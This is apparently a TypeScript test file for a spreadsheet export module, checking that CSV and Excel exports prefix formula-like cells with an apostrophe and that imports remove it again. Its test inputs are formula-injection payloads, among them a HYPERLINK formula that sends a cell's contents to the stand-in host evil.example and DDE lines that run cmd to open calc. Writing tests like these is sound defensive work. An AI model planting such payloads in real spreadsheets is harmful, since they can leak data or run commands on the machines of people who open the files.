import { Workbook } from 'exceljs';
import { readTable } from './read-table';
import { addExportRow, newWorkbook, toCsv, workbookBytes, writeTable } from './write-table';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(A1:A2)',
  '\t=1',
  '\r=1',
];

describe('exports neutralise formula-like text', () => {
  it('CSV: every such cell gets an apostrophe; numbers stay numbers; quoting per RFC 4180', () => {
    const csv = toCsv([['Text', 'Number'], ...HOSTILE.map((t) => [t, -5]), ['say "hi", then\nleave', null]]);
    expect(csv.startsWith('\uFEFFText,Number\r\n')).toBe(true);
    const lines = readTable(Buffer.from(`x${csv.slice(1)}`, 'utf8'), 'x.csv');
    expect(lines.sheets[0].rows.slice(1).map((r) => r[1])).toEqual([...HOSTILE.map(() => '-5'), '']);
    for (const text of HOSTILE) expect(csv).toContain(/[",\r\n]/.test(text) ? `"'${text.replace(/"/g, '""')}"` : `'${text}`);
    expect(csv).toContain('"say ""hi"", then\nleave"');
  });

  it('Excel: the stored value of every such cell starts with an apostrophe', async () => {
    const bytes = await writeTable(
      'xlsx',
      'Risk register',
      ['Description', 'Score'],
      HOSTILE.map((t) => [t, -2]),
    );
    const book = new Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const values = book.worksheets[0].getColumn(1).values.slice(2);
    // (XML keeps a carriage return as a line feed.)
    expect(values).toEqual(HOSTILE.map((t) => `'${t.replace(/^\r/, '\n')}`));
    expect(book.worksheets[0].getColumn(2).values.slice(2)).toEqual(HOSTILE.map(() => -2));
    const direct = newWorkbook();
    addExportRow(direct.addWorksheet('S'), ['=1+1', 'fine']);
    const reread = readTable(await workbookBytes(direct));
    expect(reread.sheets[0].rows).toEqual([['=1+1', 'fine']]);
  });

  it('imports read the apostrophe back off, so exports round-trip exactly', async () => {
    const csv = readTable(Buffer.from(toCsv([HOSTILE]), 'utf8'), 'x.csv').sheets[0].rows[0];
    expect(csv).toEqual(HOSTILE.map((t) => t.replace(/^\r/, '\n')));
    const xlsx = readTable(await writeTable('xlsx', 'S', HOSTILE, [])).sheets[0].rows[0];
    expect(xlsx).toEqual(HOSTILE.map((t) => t.replace(/^\r/, '\n')));
  });
});
